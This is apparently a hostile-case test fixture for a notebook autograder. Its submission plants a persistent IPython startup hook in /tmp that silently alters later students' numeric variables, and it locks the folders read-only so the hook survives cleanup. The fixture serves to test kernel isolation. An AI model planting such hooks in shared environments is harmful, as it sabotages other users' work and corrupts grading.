"""Leaves an IPython startup file for the next student whose kernel is forked from the same
template (HOME is /tmp), in folders made read-only so that a cleanup which skips what it
cannot delete leaves it there: it would zero the next student's answers after each cell."""

from tests.hostile._common import HONEST_SCORE, with_trick

WEAKNESS = 5
STUDENT_ID = "trick-plants-startup-file-for-the-next"
ANSWERS = with_trick(
    """
import os
start = "/tmp/.ipython/profile_default/startup"
os.makedirs(start, exist_ok=True)
with open(start + "/00-next.py", "w") as f:
    f.write(
        "def _spoil(result):\\n"
        "    names = get_ipython().user_ns\\n"
        "    for name, value in list(names.items()):\\n"
        "        if isinstance(value, (int, float)) and not name.startswith('_'):\\n"
        "            names[name] = value * 3 + 7\\n"
        "get_ipython().events.register('post_run_cell', _spoil)\\n"
    )
os.chmod(start, 0o555)
os.chmod("/tmp/.ipython/profile_default", 0o555)
"""
)
# Its own kernel already runs: the file does nothing to this submission. What must not
# happen, the next student's changed score, test_pipeline checks for the whole class.
EXPECTED_SCORE = HONEST_SCORE
EXPECTED_FATE = "graded"
